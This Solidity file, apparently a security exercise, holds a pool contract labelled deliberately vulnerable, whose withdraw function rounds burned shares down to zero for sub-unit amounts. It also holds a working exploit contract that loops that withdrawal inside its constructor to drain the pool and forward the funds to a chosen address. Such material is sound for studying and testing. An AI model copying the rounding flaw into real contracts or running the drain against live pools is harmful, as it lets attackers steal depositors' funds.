// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.30;

import {Guarded} from "Parts.sol";

/// @title A pool of native money whose shares have few decimals, so that burning rounds a withdrawal down to nothing.
/// DELIBERATELY VULNERABLE.
contract CoarsePool is Guarded {
    /// @notice One share is so much money; a pool with yield gets there by itself.
    uint256 public constant UNIT = 0.5 ether;

    mapping(address account => uint256) public sharesOf;
    uint256 public totalSupply;

    event Deposit(address indexed account, uint256 amount);
    event Withdraw(address indexed account, uint256 amount);

    constructor(address guardian_) {
        guardian = guardian_;
    }

    function totalAssets() public view returns (uint256) {
        return address(this).balance;
    }

    /// @notice What the shares were promised.
    function promised() external view returns (uint256) {
        return totalSupply * UNIT;
    }

    function deposit() external payable whenNotPaused {
        sharesOf[msg.sender] += msg.value / UNIT;
        totalSupply += msg.value / UNIT;
        emit Deposit(msg.sender, msg.value);
    }

    /// @notice Burns amount / UNIT shares, rounded down where it should be up.
    function withdraw(uint256 amount) external whenNotPaused {
        uint256 burned = amount / UNIT;
        sharesOf[msg.sender] -= burned;
        totalSupply -= burned;
        (bool ok,) = msg.sender.call{value: amount}("");
        require(ok, "not sent");
        emit Withdraw(msg.sender, amount);
    }
}

/// @notice Does all of its work while it is created: there is no code to look at before.
contract Batch {
    constructor(CoarsePool pool, address to, uint256 times) {
        uint256 amount = pool.UNIT() * 9 / 10;
        for (uint256 i = 0; i < times; i++) {
            pool.withdraw(amount);
        }
        (bool ok,) = to.call{value: address(this).balance}("");
        require(ok, "not sent");
    }

    receive() external payable {}
}
